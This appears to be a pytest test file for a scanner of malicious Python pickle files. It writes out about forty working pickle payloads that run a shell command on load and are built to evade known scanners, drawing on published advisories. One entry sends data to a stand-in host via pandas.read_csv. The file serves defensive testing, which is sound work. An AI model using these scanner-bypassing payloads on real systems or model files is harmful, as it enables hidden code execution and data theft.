"""Tricks that got past other scanners: each runs a command here, and none comes out as safe.

Sources are the advisories of picklescan, fickling and modelscan that the names give, issues of
modelscan, and the literature on "exception-oriented" pickles. An attack that this Python falls for
is run in a child process first, so that no straw man is tested.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

SAFE = {"data_only", "known_safe"}
LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def named(module: str, name: str) -> bytes:
    """STACK_GLOBAL of two plain texts."""
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


COMMAND = text("touch marker")
SYSTEM = call(named("os", "system"), COMMAND)
P4 = b"\x80\x04"

ATTACKS = {
    "plain os.system": P4 + SYSTEM + b".",
    "posix instead of os": P4 + call(named("posix", "system"), COMMAND) + b".",
    "protocol 0 without a header (CVE-2025-10155)": b"cos\nsystem\n(S'touch marker'\ntR.",
    "INST instead of GLOBAL": b"(S'touch marker'\nios\nsystem\n.",
    "OBJ": P4 + b"(" + named("os", "system") + COMMAND + b"o.",
    "breaks after it ran (nullifAI)": P4 + SYSTEM + b"0\xff\xff broken",
    "raises after it ran (exception-oriented)": P4 + SYSTEM + b"0h\x63.",
    "hexadecimal INT that pickletools refuses": b"I0x1F\n0cos\nsystem\n(S'touch marker'\ntR.",
    "octal-looking INT with blanks": b"I 017\n0cos\nsystem\n(S'touch marker'\ntR.",
    "non-ASCII import that pickletools refuses": (
        b"cantigravity_\xc3\xa9\nname\n0cos\nsystem\n(S'touch marker'\ntR."
    ),
    "memo index that is not the next (picklescan issue 22)": (
        P4
        + text("os")
        + b"q\x07"
        + b"0"
        + text("collections")
        + b"q\x00"
        + b"0"
        + b"h\x07"
        + text("system")
        + b"\x93"
        + b"("
        + COMMAND
        + b"tR."
    ),
    "memo value far from its use": (
        P4
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x94"
        + text("a") * 8
        + b"0" * 10
        + b"h\x00h\x01\x93("
        + COMMAND
        + b"tR."
    ),
    "names with escapes": b"S'\\x6f\\x73'\nS'sys\\164em'\n\x93(S'touch marker'\ntR.",
    "UNICODE escapes": b"V\\u006fs\nVsystem\n\x93(Vtouch marker\ntR.",
    "second pickle in the file": P4 + b"N." + P4 + SYSTEM + b".",
    "dotted name through a trusted package": (
        P4 + call(named("sklearn.utils.fixes", "platform.os.system"), COMMAND) + b"."
    ),
    "getattr on a module reached through another": (
        P4
        + call(call(named("builtins", "getattr"), named("logging", "os"), text("system")), COMMAND)
        + b"."
    ),
    "attributes set on a function, read back as names (modelscan 85)": (
        P4
        + named("numpy", "prod")
        + b"N}"
        + text("a")
        + text("os")
        + b"s\x86b"
        + b"N}"
        + text("b")
        + text("system")
        + b"s\x86b0"
        + named("numpy", "prod.a")
        + named("numpy", "prod.b")
        + b"\x93("
        + COMMAND
        + b"tR."
    ),
    "__builtins__ of a module (modelscan 330)": (
        P4
        + named("numpy", "size")
        + b"\x940"
        + named("numpy", "__builtins__")
        + b"\x940"
        + b"h\x00}}"
        + text("shape")
        + b"h\x01s\x86b0"
        + call(b"h\x00", b"h\x00", text("eval"))
        + b"0N."
    ),
    "operator.attrgetter (GHSA-m273-6v24-x4m4)": (
        P4
        + call(call(named("operator", "attrgetter"), text("system")), named("logging", "os"))
        + b"("
        + COMMAND
        + b"tR."
    ),
    "functools.partial": (
        P4 + b"(" + call(named("functools", "partial"), named("os", "system"), COMMAND) + b"o."
    ),
    "pickle in a pickle (GHSA-84r2-jw7c-4r5q)": (
        P4
        + call(
            named("pickle", "loads"),
            b"C" + bytes([len(P4 + SYSTEM + b".")]) + P4 + SYSTEM + b".",
        )
        + b"."
    ),
    "timeit (GHSA-v7x6-rv5q-mhwc)": (
        P4
        + call(
            named("timeit", "timeit"),
            text("__import__('os').system('touch marker')"),
            text("pass"),
            named("time", "perf_counter"),
            b"K\x01",
        )
        + b"."
    ),
    "pty.spawn": P4
    + call(named("pty", "spawn"), b"(" + text("touch") + text("marker") + b"t")
    + b".",
    "uuid's own command runner (CVE-2026-56315)": (
        P4 + call(named("uuid", "_get_command_stdout"), text("touch"), text("marker")) + b"."
    ),
    "runpy": P4
    + call(named("runpy", "_run_code"), named("compileall", "__builtins__"), b"}")
    + b".",
    "dataclasses._create_fn": P4
    + call(
        named("dataclasses", "_create_fn"),
        text("x"),
        b"(" + text("a=__import__('os').system('touch marker')") + b"l",
        b"(" + text("pass") + b"l",
    )
    + b".",
    "typing._eval_type": P4
    + call(
        named("typing", "_eval_type"),
        call(named("typing", "ForwardRef"), text("f(c) or int")),
        b"}" + text("f") + named("os", "system") + b"s" + text("c") + COMMAND + b"s",
        b"N",
    )
    + b".",
    "exec in scipy.stats' __setstate__": (
        P4
        + named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81}"
        + text("_parse_arg_template")
        + text("__import__('os').system('touch marker')")
        + b"s"
        + text("_ctor_param")
        + b"}s"
        + text("_random_state")
        + b"Nsb."
    ),
    "numpy's import by name": (
        P4
        + call(
            call(named("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")), COMMAND
        )
        + b"."
    ),
    "numpy generator made by any function": P4
    + call(named("numpy.random._pickle", "__randomstate_ctor"), COMMAND, named("os", "system"))
    + b".",
    "copyreg extension registered on the way": (
        P4
        + call(named("copyreg", "add_extension"), text("os"), text("system"), b"K\x07")
        + b"0\x82\x07("
        + COMMAND
        + b"tR."
    ),
    "__setstate__ set first, called next": (
        P4
        + named("collections", "Counter")
        + b")\x81}"
        + text("__setstate__")
        + named("os", "system")
        + b"sb"
        + COMMAND
        + b"b."
    ),
    "names computed with a codec": (
        P4
        + call(named("codecs", "decode"), text("bf"), text("rot13"))
        + text("system")
        + b"\x93("
        + COMMAND
        + b"tR."
    ),
    "import of Python 2's name": b"ccommands\ngetoutput\n(S'touch marker'\ntR.",
    "dict of a pickle filled through a module": (
        P4 + named("sys", "modules") + text("json") + named("os", "__doc__") + b"s."
    ),
    "map, run by a list": P4
    + call(
        named("builtins", "list"),
        call(named("builtins", "map"), named("os", "system"), b"(" + COMMAND + b"l"),
    )
    + b".",
    "webbrowser": P4 + call(named("webbrowser", "open"), text("file:///")) + b".",
    "bdb (GHSA-46h3-79wf-xr6c)": P4
    + call(
        named("bdb", "Bdb.run"),
        named("bdb", "Bdb") + b")\x81",
        text("__import__('os').system('touch marker')"),
    )
    + b".",
    "torch.utils.collect_env": P4 + call(named("torch.utils.collect_env", "run"), COMMAND) + b".",
    "mlflow.projects": P4
    + call(
        named("mlflow.projects.backend.local", "_run_entry_point"),
        COMMAND,
        text("."),
        text(""),
        text(""),
    )
    + b".",
    "exfiltration by pandas.read_csv": P4
    + call(named("pandas.io.parsers.readers", "read_csv"), text("https://example.org/?stolen"))
    + b".",
    "zlib hides the rest": P4 + call(named("zlib", "decompress"), b"C\x01x") + b".",
}
RUNS_HERE = [
    *("plain os.system", "posix instead of os", "protocol 0 without a header (CVE-2025-10155)"),
    *("INST instead of GLOBAL", "OBJ", "breaks after it ran (nullifAI)"),
    *("raises after it ran (exception-oriented)", "hexadecimal INT that pickletools refuses"),
    *("memo index that is not the next (picklescan issue 22)", "memo value far from its use"),
    *("names with escapes", "UNICODE escapes", "dotted name through a trusted package"),
    *("getattr on a module reached through another", "numpy generator made by any function"),
    *("attributes set on a function, read back as names (modelscan 85)",),
    *("operator.attrgetter (GHSA-m273-6v24-x4m4)", "pickle in a pickle (GHSA-84r2-jw7c-4r5q)"),
    *("exec in scipy.stats' __setstate__", "__setstate__ set first, called next"),
    *("names computed with a codec", "map, run by a list", "timeit (GHSA-v7x6-rv5q-mhwc)"),
    *("copyreg extension registered on the way", "import of Python 2's name"),
    *("functools.partial", "uuid's own command runner (CVE-2026-56315)"),
    *("dataclasses._create_fn", "typing._eval_type", "pty.spawn"),
]


def runs(data: bytes, folder) -> bool:
    """Whether unpickling the data runs its command."""
    (folder / "attack").write_bytes(data)
    subprocess.run(
        [sys.executable, "-W", "ignore", "-c", LOAD, "attack"],
        cwd=folder,
        capture_output=True,
        timeout=60,
        check=False,
    )
    return (folder / "marker").exists()


@pytest.mark.parametrize("attack", RUNS_HERE)
def test_the_attack_is_real(attack, tmp_path):
    assert runs(ATTACKS[attack], tmp_path)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_out_as_safe(attack, judge):
    assert judge(ATTACKS[attack]) not in SAFE
